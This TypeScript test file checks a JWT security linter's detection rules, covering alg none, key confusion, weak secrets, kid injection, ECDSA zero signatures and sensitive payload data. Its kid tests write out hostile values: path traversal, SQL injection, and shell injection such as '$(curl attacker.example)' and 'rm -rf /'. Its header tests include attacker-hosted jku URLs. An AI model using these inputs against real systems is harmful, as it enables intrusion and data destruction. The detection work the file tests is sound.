import { generateKeyPairSync, randomBytes } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { parseKey } from '../keys/parse'
import { decodeToken } from '../token/decode'
import type { DecodedToken, KeyInput, SecretEncoding } from '../types'
import { algNoneRule, keyAlgMismatchRule } from './alg-rules'
import { base64urlProblem, canonicalBase64urlRule, duplicateMemberRule, oversizedTokenRule } from './encoding-rules'
import { critRule, keySourceRule, kidInjectionRule } from './header-rules'
import { resolveLintContext } from './index'
import { bitLength, weakRsaKeyRule } from './key-rules'
import { luhnValid, sensitiveDataRule } from './payload-rules'
import { hmacSecretRule } from './secret-rules'
import { ecdsaZeroRule } from './signature-rules'
import { iatFutureRule, lifetimeRule, missingExpRule, nbfAfterExpRule } from './time-rules'
import type { LintContext, LintRule } from './types'

const NOW = 1704067200 // 2024-01-01T00:00:00Z
const b64u = (data: string | Uint8Array): string => Buffer.from(data).toString('base64url')
const json = (value: unknown): string => (typeof value === 'string' ? value : JSON.stringify(value))

/** A compact JWS from header and payload (objects, or raw JSON text) and signature bytes. */
function jws(header: unknown, payload: unknown = {}, signature: Uint8Array | string = 'sig'): DecodedToken {
  return decodeToken(`${b64u(json(header))}.${b64u(json(payload))}.${b64u(signature)}`)
}

const fixture = (name: string): string => readFileSync(new URL(`../../../test/fixtures/keys/${name}`, import.meta.url), 'utf8')

async function key(text: string, encoding: SecretEncoding = 'utf8'): Promise<KeyInput> {
  const result = await parseKey(text, { encoding })
  if (!result.ok) throw new Error(result.error.message)
  return result.value
}

function run(rule: LintRule, token: DecodedToken, context: LintContext = {}) {
  return rule(token, resolveLintContext({ now: NOW, ...context }))
}
const ids = (rule: LintRule, token: DecodedToken, context: LintContext = {}) => run(rule, token, context).map((f) => `${f.severity} ${f.id}`)

describe('alg none', () => {
  it.each<[unknown, string[]]>([
    [{ alg: 'none' }, ['critical alg-none']],
    [{ alg: 'None' }, ['critical alg-none']],
    [{ alg: 'NONE' }, ['critical alg-none']],
    [{ alg: 'nOnE' }, ['critical alg-none']],
    [{ alg: 'HS256' }, []],
    [{ alg: 'none ' }, []],
    [{ alg: ['none'] }, []],
    [{ typ: 'JWT' }, []],
  ])('%j → %j', (header, expected) => {
    expect(ids(algNoneRule, jws(header))).toEqual(expected)
  })

  it('explains a case variant and points at the alg member', () => {
    // Header {"alg":"None"}: the member is bytes 1–13, i.e. characters ⌊4/3⌋ = 1 to ⌈52/3⌉ = 18.
    const [finding] = run(algNoneRule, jws({ alg: 'None' }, {}, ''))
    expect(finding).toEqual({
      id: 'alg-none',
      severity: 'critical',
      title: 'Unsigned token: alg is "None", a case variant of "none"',
      explanation: 'The header sets alg to "None", so the token carries no signature and anyone can write one. A verifier that honours it accepts forged tokens. Case variants such as "None" slip past blocklists that only compare with "none".',
      fix: 'Verify with an explicit allowlist of algorithms (for example ["RS256"]) that never includes "none", and never take the algorithm from the token.',
      reference: 'RFC 8725 §2.1 and §3.1; RFC 7518 §3.6',
      segment: 'header',
      offset: 1,
      length: 17,
    })
  })

  it('notes a non-empty signature on an unsecured token', () => {
    expect(run(algNoneRule, jws({ alg: 'none' }))[0]?.explanation).toMatch(/The signature segment is not empty, which an unsecured JWT must have\.$/)
  })
})

describe('key and algorithm mismatch', async () => {
  const ecP256 = await key(fixture('ec-p256-spki.pem'))
  const ecP384 = await key(fixture('ec-p384-spki.pem'))
  const rsa = await key(fixture('rsa-2048-spki.pem'))
  const ed = await key(fixture('ed25519-spki.pem'))
  const secret = await key('a-very-long-and-random-secret-value-1234')
  const jwks = await key(JSON.stringify({ keys: [
    JSON.parse(readFileSync(new URL('../../../test/fixtures/keys/manifest.json', import.meta.url), 'utf8'))[0].publicJwk,
    { kty: 'oct', k: b64u(randomBytes(32)) },
  ] }))

  it.each<[string, string, KeyInput, string[]]>([
    ['HS256 with an EC public key', 'HS256', ecP256, ['critical key-alg-confusion']],
    ['HS384 with an RSA public key', 'HS384', rsa, ['critical key-alg-confusion']],
    ['HS256 with a secret', 'HS256', secret, []],
    ['HS256 with a JWKS holding a secret', 'HS256', jwks, []],
    ['RS256 with a secret', 'RS256', secret, ['medium key-alg-mismatch']],
    ['PS512 with an RSA key', 'PS512', rsa, []],
    ['ES256 with a P-384 key', 'ES256', ecP384, ['medium key-alg-mismatch']],
    ['ES384 with a P-384 key', 'ES384', ecP384, []],
    ['EdDSA with an Ed25519 key', 'EdDSA', ed, []],
    ['Ed25519 with an RSA key', 'Ed25519', rsa, ['medium key-alg-mismatch']],
    ['an unknown alg', 'XS256', rsa, []],
    ['none', 'none', rsa, []],
  ])('%s', (_name, alg, keys, expected) => {
    expect(ids(keyAlgMismatchRule, jws({ alg }), { keys })).toEqual(expected)
  })

  it('says which key was given', () => {
    expect(run(keyAlgMismatchRule, jws({ alg: 'HS256' }), { keys: ecP256 })[0]?.explanation).toBe(
      'The token says HS256 (HMAC), but the key given is an EC public key on P-256. A verifier that hands this key to HMAC uses the public key bytes as the shared secret, and public keys are public: anyone can then forge tokens.')
    expect(run(keyAlgMismatchRule, jws({ alg: 'ES256' }), { keys: ecP384 })[0]?.explanation).toBe(
      'The token says ES256, which needs an EC key on P-256, but the key given is an EC public key on P-384. The signature cannot be checked with this key.')
    expect(run(keyAlgMismatchRule, jws({ alg: 'RS256' }), { keys: secret })[0]?.explanation).toBe(
      'The token says RS256, which needs an RSA key, but the key given is an HMAC secret (320 bits). The signature cannot be checked with this key.')
  })

  it('stays silent without keys', () => {
    expect(ids(keyAlgMismatchRule, jws({ alg: 'HS256' }), { keys: null })).toEqual([])
  })
})

describe('HMAC secret strength', async () => {
  const random32 = randomBytes(32)
  it.each<[string, string, LintContext, string[]]>([
    ['a default secret', 'HS256', { secretText: 'secret' }, ['critical hmac-secret-common', 'high hmac-secret-short']],
    ['jwt.io\'s example secret', 'HS256', { secretText: 'your-256-bit-secret' }, ['critical hmac-secret-common', 'high hmac-secret-short']],
    ['32 repeated letters, on no list', 'HS256', { secretText: 'a'.repeat(32) }, []],
    ['a 31-byte secret', 'HS256', { secretText: 'Zq7!'.repeat(7) + 'abc' }, ['high hmac-secret-short']],
    ['a 32-byte secret', 'HS256', { secretText: 'Zq7!'.repeat(8) }, []],
    ['a 32-byte secret with HS384', 'HS384', { secretText: 'Zq7!'.repeat(8) }, ['high hmac-secret-short']],
    ['a 48-byte secret with HS384', 'HS384', { secretText: 'Zq7!'.repeat(12) }, []],
    ['a 63-byte secret with HS512', 'HS512', { secretText: 'Zq7!'.repeat(15) + 'Zq7' }, ['high hmac-secret-short']],
    ['an RS256 token', 'RS256', { secretText: 'secret' }, []],
    ['no secret', 'HS256', {}, []],
    ['an empty secret text', 'HS256', { secretText: '' }, []],
  ])('%s', (_name, alg, context, expected) => {
    expect(ids(hmacSecretRule, jws({ alg }), context)).toEqual(expected)
  })

  it('measures the decoded bytes of a parsed secret, not the typed text', async () => {
    // 32 random bytes typed as base64 (44 characters) are exactly enough for HS256, not for HS512.
    const keys = await key(random32.toString('base64'), 'base64')
    expect(ids(hmacSecretRule, jws({ alg: 'HS256' }), { keys, secretText: random32.toString('base64') })).toEqual([])
    expect(run(hmacSecretRule, jws({ alg: 'HS512' }), { keys })[0]?.explanation).toBe(
      'The secret is 32 bytes (256 bits), but HS512 requires a key of at least 512 bits (64 bytes). Short or guessable secrets can be brute-forced offline from one token.')
  })

  it('recognises a common secret from the parsed key when no text is given', async () => {
    expect(ids(hmacSecretRule, jws({ alg: 'HS256' }), { keys: await key('changeme') })).toEqual(['critical hmac-secret-common', 'high hmac-secret-short'])
  })
})

describe('time claims', () => {
  it.each<[string, LintRule, unknown, LintContext, string[]]>([
    ['no exp', missingExpRule, { sub: 'a' }, {}, ['medium missing-exp']],
    ['exp present', missingExpRule, { exp: NOW + 60 }, {}, []],
    ['exp as a big integer', missingExpRule, '{"exp":123456789012345678901234567890}', {}, []],
    ['exp as a string', missingExpRule, { exp: '2024-01-01' }, {}, ['medium exp-not-numeric']],
    ['payload that is not an object', missingExpRule, '[1,2]', {}, []],
    ['lifetime one second over a day', lifetimeRule, { iat: NOW, exp: NOW + 86401 }, {}, ['low long-lifetime']],
    ['lifetime exactly a day', lifetimeRule, { iat: NOW, exp: NOW + 86400 }, {}, []],
    ['lifetime from nbf', lifetimeRule, { nbf: NOW, exp: NOW + 7 * 86400 }, {}, ['low long-lifetime']],
    ['lifetime under a custom limit', lifetimeRule, { iat: NOW, exp: NOW + 3600 }, { maxLifetimeSeconds: 3600 }, []],
    ['lifetime over a custom limit', lifetimeRule, { iat: NOW, exp: NOW + 3601 }, { maxLifetimeSeconds: 3600 }, ['low long-lifetime']],
    ['no start time', lifetimeRule, { exp: NOW + 10 * 86400 }, {}, []],
    ['iat 61 s ahead', iatFutureRule, { iat: NOW + 61 }, {}, ['medium iat-in-future']],
    ['iat 60 s ahead', iatFutureRule, { iat: NOW + 60 }, {}, []],
    ['iat in the past', iatFutureRule, { iat: NOW - 3600 }, {}, []],
    ['nbf equal to exp', nbfAfterExpRule, { nbf: NOW, exp: NOW }, {}, ['medium nbf-after-exp']],
    ['nbf after exp', nbfAfterExpRule, { nbf: NOW + 10, exp: NOW }, {}, ['medium nbf-after-exp']],
    ['nbf one second before exp', nbfAfterExpRule, { nbf: NOW - 1, exp: NOW }, {}, []],
  ])('%s', (_name, rule, payload, context, expected) => {
    expect(ids(rule, jws({ alg: 'HS256' }, payload), context)).toEqual(expected)
  })

  it('writes lifetimes and times out in full', () => {
    expect(run(lifetimeRule, jws({ alg: 'HS256' }, { nbf: NOW, exp: NOW + 30 * 86400 }))[0]).toMatchObject({
      title: 'Long-lived token (30 days)',
      explanation: 'The token is valid for 30 days (exp − nbf = 2592000 s), longer than the 1 day limit. A stolen token stays usable all that time.',
    })
    expect(run(iatFutureRule, jws({ alg: 'HS256' }, { iat: NOW + 7200 }))[0]?.explanation).toBe(
      'iat is 2024-01-01T02:00:00Z, 2 hours from now. Either the issuer\'s clock is wrong or the token was minted by someone choosing their own times, for example to outlive a lifetime limit.')
    expect(run(nbfAfterExpRule, jws({ alg: 'HS256' }, { nbf: NOW + 3600, exp: NOW }))[0]?.explanation).toBe(
      'nbf (2024-01-01T01:00:00Z) is after exp (2024-01-01T00:00:00Z), so there is no moment when the token is valid. A verifier that accepts it is not checking one of the two claims.')
    expect(run(missingExpRule, jws({ alg: 'HS256' }, { exp: '2024-01-01' }))[0]?.explanation).toBe(
      'exp must be a NumericDate (seconds since 1970-01-01T00:00:00Z), but here it is "2024-01-01". Many libraries skip an exp they cannot read, so the token may never expire.')
  })

  it('points at the whole payload when exp is missing', () => {
    const token = jws({ alg: 'HS256' }, { sub: 'a' })
    const payload = token.token.split('.')[1] ?? ''
    expect(run(missingExpRule, token)[0]).toMatchObject({ segment: 'payload', offset: token.token.indexOf('.') + 1, length: payload.length })
  })
})

describe('header parameters', () => {
  it.each<[unknown, string[]]>([
    [{ alg: 'RS256', jku: 'https://attacker.example/jwks.json' }, ['high header-jku']],
    [{ alg: 'RS256', x5u: 'https://attacker.example/cert.pem' }, ['high header-x5u']],
    [{ alg: 'RS256', jwk: { kty: 'EC', crv: 'P-256', x: 'a', y: 'b' } }, ['high header-jwk']],
    [{ alg: 'ES256', typ: 'dpop+jwt', jwk: { kty: 'EC', crv: 'P-256', x: 'a', y: 'b' } }, ['info header-jwk']],
    [{ alg: 'RS256', x5c: ['MIIB'] }, ['high header-x5c']],
    [{ alg: 'RS256', jku: 'https://a.example', x5c: ['MIIB'] }, ['high header-jku', 'high header-x5c']],
    [{ alg: 'RS256', kid: 'key-1', x5t: 'abc' }, []],
  ])('%j → %j', (header, expected) => {
    expect(ids(keySourceRule, jws(header))).toEqual(expected)
  })

  it.each<[string, string | null]>([
    ['../../../../dev/null', 'path traversal'],
    ['/etc/passwd', 'path traversal'],
    ['keys\\..\\secret', 'path traversal'],
    ['C:\\keys\\a.pem', 'path traversal'],
    ['key\u0000.pem', 'path traversal'],
    ['%2e%2e%2fsecret', 'path traversal'],
    ["x' UNION SELECT 'secret' --", 'SQL'],
    ['1 union all select key from keys', 'SQL'],
    ['key|whoami', 'shell'],
    ['$(curl attacker.example)', 'shell'],
    ["a'; rm -rf / #", 'SQL and shell'],
    ['../x;id', 'path traversal, SQL and shell'],
    ['2024-05-rotation.key1', null],
    ['https://issuer.example/keys#1', null],
    ['a..b', null],
    ['sha256:Q0VSVA', null],
    ['Union Station key (selected)', null],
  ])('kid %j', (kid, kinds) => {
    const findings = run(kidInjectionRule, jws({ alg: 'HS256', kid }))
    if (kinds === null) expect(findings).toEqual([])
    else expect(findings[0]?.explanation).toBe(`The kid ${JSON.stringify(kid)} contains ${kinds} characters. Verifiers that build file paths, SQL queries or shell commands from kid can be made to load a key the attacker knows (for example /dev/null or a row they control).`)
  })

  it.each<[unknown, string[], string | undefined]>([
    [{ alg: 'HS256', crit: ['exp'], exp: 1 }, ['medium crit-unknown'], 'crit marks "exp" as critical, and it is not an extension this app understands. A compliant verifier must reject the token; one that ignores crit silently skips whatever check the issuer required.'],
    [{ alg: 'HS256', b64: false, crit: ['b64'] }, [], undefined],
    [{ alg: 'HS256', crit: [] }, ['medium crit-invalid'], 'crit must be a non-empty array of strings, but it is []. Verifiers must reject such a token, so it fails on compliant implementations and may be accepted by lax ones.'],
    [{ alg: 'HS256', crit: 'b64', b64: false }, ['medium crit-invalid'], 'crit must be a non-empty array of strings, but it is "b64". Verifiers must reject such a token, so it fails on compliant implementations and may be accepted by lax ones.'],
    [{ alg: 'HS256', crit: ['alg'] }, ['medium crit-invalid'], 'crit lists registered parameters (alg), which it must not. Verifiers must reject such a token, so it fails on compliant implementations and may be accepted by lax ones.'],
    [{ alg: 'HS256', crit: ['b64'] }, ['medium crit-invalid'], 'crit lists "b64", which is not in the header. Verifiers must reject such a token, so it fails on compliant implementations and may be accepted by lax ones.'],
    [{ alg: 'HS256', crit: ['foo', 'foo'] }, ['medium crit-invalid', 'medium crit-unknown'], 'crit lists "foo", which is not in the header. crit lists "foo" more than once. Verifiers must reject such a token, so it fails on compliant implementations and may be accepted by lax ones.'],
    [{ alg: 'HS256' }, [], undefined],
  ])('crit in %j', (header, expected, explanation) => {
    const findings = run(critRule, jws(header))
    expect(findings.map((f) => `${f.severity} ${f.id}`)).toEqual(expected)
    expect(findings[0]?.explanation).toBe(explanation)
  })
})

describe('encoding', () => {
  it.each<[string, string, string[]]>([
    ['a duplicate in the header', '{"alg":"HS256","alg":"none"}', ['high duplicate-member']],
    ['names differing in case', '{"alg":"HS256","Alg":"none"}', []],
  ])('%s', (_name, header, expected) => {
    expect(ids(duplicateMemberRule, jws(header))).toEqual(expected)
  })

  it('names the duplicates and points at the first repetition', () => {
    // Payload {"sub":"a","sub":"b","x":1,"x":2}: the second "sub" member is bytes 11–20, characters 14 to 27.
    const token = jws({ alg: 'HS256' }, '{"sub":"a","sub":"b","x":1,"x":2}')
    const payloadStart = token.token.indexOf('.') + 1
    expect(run(duplicateMemberRule, token)).toEqual([{
      id: 'duplicate-member',
      severity: 'high',
      title: 'Duplicate member name in the payload',
      explanation: 'The payload has "sub", "x" more than once. JSON parsers disagree about duplicates (some keep the first, most the last, some reject), so two services can read different values from the same signed token.',
      fix: 'Issue JSON with unique member names, and make verifiers reject duplicates instead of picking one.',
      reference: 'RFC 7519 §4; RFC 8259 §4',
      segment: 'payload',
      offset: payloadStart + 14,
      length: 13,
    }])
  })

  it.each<[string, string | undefined]>([
    ['eyJhbGciOiJIUzI1NiJ9', undefined],
    ['e30', undefined],
    ['', undefined],
    ['e31', 'ends in a character whose unused low bits are not zero'],
    ['e30=', 'has = padding, which base64url in JOSE omits'],
    ['ab+/', 'uses + or /, characters of standard base64 instead of base64url'],
    ['ab c', 'contains characters outside the base64url alphabet'],
    ['abcde', 'has a length (5) that no byte string encodes to'],
    ['QQ', undefined],
    ['QR', 'ends in a character whose unused low bits are not zero'],
  ])('base64urlProblem(%j)', (text, problem) => {
    expect(base64urlProblem(text)).toBe(problem)
  })

  it.each<[string, string, string[]]>([
    ['a canonical token', 'eyJhbGciOiJIUzI1NiJ9.e30.c2ln', []],
    ['trailing bits set in the payload', 'eyJhbGciOiJIUzI1NiJ9.e31.c2ln', ['low non-canonical-base64url']],
    ['a padded signature', 'eyJhbGciOiJIUzI1NiJ9.e30.c2lnbg==', ['low non-canonical-base64url']],
    ['a JWE with canonical parts', 'eyJhbGciOiJkaXIiLCJlbmMiOiJBMTI4R0NNIn0..AAAAAAAAAAAAAAAA.e30.AAAAAAAAAAAAAAAAAAAAAA', []],
    ['a JWE with a non-canonical tag', 'eyJhbGciOiJkaXIiLCJlbmMiOiJBMTI4R0NNIn0..AAAAAAAAAAAAAAAA.e30.AAAAAAAAAAAAAAAAAAAAAB', ['low non-canonical-base64url']],
    ['something that is not a token', 'abc', []],
  ])('%s', (_name, token, expected) => {
    expect(ids(canonicalBase64urlRule, decodeToken(token))).toEqual(expected)
  })

  it('lists every non-canonical segment and points at the first', () => {
    const [finding] = run(canonicalBase64urlRule, decodeToken('eyJhbGciOiJIUzI1NiJ9.e31.c2lnbg=='))
    expect(finding).toMatchObject({
      explanation: 'In this token the payload ends in a character whose unused low bits are not zero; the signature has = padding, which base64url in JOSE omits. Different texts then decode to the same bytes, so lenient verifiers still accept the signature while the token string changes: blocklists, replay caches and logs keyed on the token text can be bypassed. Strict verifiers reject it, and JWT Lab does not call it verified.',
      segment: 'payload',
      offset: 21,
      length: 3,
    })
  })

  it.each<[number, string[]]>([
    [8192, []],
    [8193, ['low oversized-token']],
  ])('a token of %i characters', (size, expected) => {
    // "eyJhbGciOiJIUzI1NiJ9" (20) + "." + payload + "." + "c2ln" (4) = size.
    const token = decodeToken(`eyJhbGciOiJIUzI1NiJ9.${'A'.repeat(size - 26)}.c2ln`)
    expect(token.token.length).toBe(size)
    expect(ids(oversizedTokenRule, token)).toEqual(expected)
  })
})

describe('RSA key size', async () => {
  const pem = (bits: number) => generateKeyPairSync('rsa', { modulusLength: bits }).publicKey.export({ type: 'spki', format: 'pem' }).toString()
  const jwkOf = (bits: number) => generateKeyPairSync('rsa', { modulusLength: bits }).publicKey.export({ format: 'jwk' })
  const rsa1024 = await key(pem(1024))
  const rsa2048 = await key(fixture('rsa-2048-spki.pem'))

  it.each<[string, unknown, KeyInput | null, string[]]>([
    ['a 1024-bit verification key', { alg: 'RS256' }, rsa1024, ['high weak-rsa-key']],
    ['a 2048-bit verification key', { alg: 'RS256' }, rsa2048, []],
    ['a 1024-bit key in the header', { alg: 'RS256', jwk: jwkOf(1024) }, null, ['high weak-rsa-key']],
    ['a 2048-bit key in the header', { alg: 'RS256', jwk: jwkOf(2048) }, null, []],
    ['an EC key in the header', { alg: 'ES256', jwk: { kty: 'EC', n: 'AQAB' } }, null, []],
  ])('%s', (_name, header, keys, expected) => {
    expect(ids(weakRsaKeyRule, jws(header), { keys })).toEqual(expected)
  })

  it('reports the modulus size', () => {
    expect(run(weakRsaKeyRule, jws({ alg: 'RS256' }), { keys: rsa1024 })[0]).toMatchObject({
      title: 'RSA key under 2048 bits (1024 bits)',
      explanation: 'The verification key has a 1024-bit modulus. RSA keys this short can be factored with enough computing power (512-bit keys in hours on rented servers); whoever factors it can sign any token.',
    })
  })

  it.each<[number[], number]>([
    [[], 0],
    [[0, 0], 0],
    [[1], 1],
    [[0x80], 8],
    [[0, 0x7f, 0xff], 15],
    [[0x01, 0x00], 9],
  ])('bitLength(%j) = %i', (bytes, bits) => {
    expect(bitLength(Uint8Array.from(bytes))).toBe(bits)
  })
})

describe('ECDSA zero signature (CVE-2022-21449)', () => {
  const vectors = JSON.parse(readFileSync(new URL('../../../test/fixtures/vectors/jws-valid.json', import.meta.url), 'utf8')) as { alg: string; token: string }[]
  const realEs256 = vectors.find((v) => v.alg === 'ES256')?.token ?? ''
  const half = (fill: number, n: number) => new Uint8Array(n).fill(fill)
  const join = (a: Uint8Array, b: Uint8Array) => Uint8Array.from([...a, ...b])

  it.each<[string, string, Uint8Array, string[]]>([
    ['ES256 with r = s = 0', 'ES256', half(0, 64), ['critical ecdsa-zero-signature']],
    ['ES384 with r = 0', 'ES384', join(half(0, 48), half(7, 48)), ['critical ecdsa-zero-signature']],
    ['ES512 with s = 0', 'ES512', join(half(1, 66), half(0, 66)), ['critical ecdsa-zero-signature']],
    ['ES256 with r = 1 and s = 0x00…01', 'ES256', join(join(half(0, 31), half(1, 1)), join(half(0, 31), half(1, 1))), []],
    ['ES256 with 63 zero bytes', 'ES256', half(0, 63), []],
    ['HS256 with 64 zero bytes', 'HS256', half(0, 64), []],
  ])('%s', (_name, alg, signature, expected) => {
    expect(ids(ecdsaZeroRule, jws({ alg }, {}, signature))).toEqual(expected)
  })

  it('passes a real ES256 signature', () => {
    expect(ids(ecdsaZeroRule, decodeToken(realEs256))).toEqual([])
  })

  it('points at the zero half', () => {
    // s is bytes 32–63 of the signature: characters ⌊128/3⌋ = 42 to ⌈256/3⌉ = 86 (the whole 86-character segment).
    const token = jws({ alg: 'ES256' }, {}, join(half(9, 32), half(0, 32)))
    const start = token.token.lastIndexOf('.') + 1
    expect(run(ecdsaZeroRule, token)[0]).toMatchObject({
      explanation: 'In this ES256 signature s is zero. ECDSA requires 1 ≤ r, s < n, and a verifier that skips that check (Java 15 to 18 before the April 2022 updates) accepts such a signature for any payload and any key.',
      segment: 'signature',
      offset: start + 42,
      length: 44,
    })
  })
})

describe('sensitive data in the payload', () => {
  it.each<[number | string, boolean]>([
    ['4111111111111111', true],
    ['79927398713', true],
    ['79927398710', false],
    ['378282246310005', true],
    ['5555555555554444', true],
    ['5555555555554445', false],
    ['', false],
    ['12a4', false],
  ])('luhnValid(%j) = %s', (digits, valid) => {
    expect(luhnValid(String(digits))).toBe(valid)
  })

  const pemKey = '-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA==\n-----END PRIVATE KEY-----'
  it.each<[string, unknown, string[]]>([
    ['a password', { sub: 'a', password: 'hunter2' }, ['high sensitive-credential']],
    ['an empty password', { sub: 'a', password: '' }, []],
    ['a client secret', { client_secret: 's3cr3t-value' }, ['high sensitive-credential']],
    ['a passwordless flag', { password_set: true, passwordless: 'yes' }, []],
    ['a card number with spaces', { card: '4111 1111 1111 1111' }, ['high sensitive-card']],
    ['a card number failing Luhn', { card: '4111 1111 1111 1112' }, []],
    ['a card number as a JSON number', { pan: 5555555555554444 }, ['high sensitive-card']],
    ['a card number inside text', { note: 'paid with 3782-822463-10005 today' }, ['high sensitive-card']],
    ['a millisecond timestamp', { ts: 1704067200000, iat: 1704067200 }, []],
    ['a US SSN', { profile: { ssn_text: '123-45-6789' } }, ['high sensitive-national-id']],
    ['an impossible SSN', { ref: '000-12-3456' }, []],
    ['a national-ID member', { national_id: 'AB123456C' }, ['high sensitive-national-id']],
    ['a PEM private key', { k: pemKey }, ['critical sensitive-private-key']],
    ['a PEM public key', { k: '-----BEGIN PUBLIC KEY-----\nMCow\n-----END PUBLIC KEY-----' }, []],
    ['a private JWK', { jwk: { kty: 'OKP', crv: 'Ed25519', x: 'abc', d: 'def' } }, ['critical sensitive-private-key']],
    ['a public JWK', { cnf: { jwk: { kty: 'OKP', crv: 'Ed25519', x: 'abc' } } }, []],
    ['an AWS access key', { creds: ['AKIAIOSFODNN7EXAMPLE'] }, ['critical sensitive-aws-key']],
    ['an AWS-like string that is too short', { creds: ['AKIAIOSFODNN7EXAMPL'] }, []],
    ['an AWS secret key member', { aws_secret_access_key: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' }, ['high sensitive-credential']],
    ['several at once', { password: 'x', key: pemKey, id: '123-45-6789' }, ['critical sensitive-private-key', 'high sensitive-credential', 'high sensitive-national-id']],
    ['an ordinary ID token', { iss: 'https://idp.example', sub: '248289761001', aud: 's6BhdRkqt3', email: 'jane@example.com', exp: 1311281970 }, []],
  ])('%s', (_name, payload, expected) => {
    expect(ids(sensitiveDataRule, jws({ alg: 'HS256' }, payload))).toEqual(expected)
  })

  it('names where it found the data and points at the top-level member', () => {
    const token = jws({ alg: 'HS256' }, '{"sub":"a","user":{"password":"hunter2"}}')
    const payloadStart = token.token.indexOf('.') + 1
    // The "user" member is bytes 11–40: characters ⌊44/3⌋ = 14 to ⌈160/3⌉ = 54.
    expect(run(sensitiveDataRule, token)).toEqual([{
      id: 'sensitive-credential',
      severity: 'high',
      title: 'Password or secret in the payload',
      explanation: 'The payload seems to hold a password or secret (at user.password). A signed token is only base64url-encoded, not encrypted: anyone who sees it (browser storage, logs, proxies, this page) can read it.',
      fix: 'Remove it from the token and keep it server-side behind an opaque reference, or encrypt the token (JWE) if the recipient really needs it.',
      reference: 'RFC 7519 §12',
      segment: 'payload',
      offset: payloadStart + 14,
      length: 40,
    }])
  })

  it('scans a payload that is plain text', () => {
    expect(ids(sensitiveDataRule, jws({ alg: 'HS256' }, 'card 4111111111111111'))).toEqual(['high sensitive-card'])
  })

  it('ignores JWE, whose payload is encrypted', () => {
    expect(ids(sensitiveDataRule, decodeToken('eyJhbGciOiJkaXIiLCJlbmMiOiJBMTI4R0NNIn0..AAAAAAAAAAAAAAAA.e30.AAAAAAAAAAAAAAAAAAAAAA'))).toEqual([])
  })
})
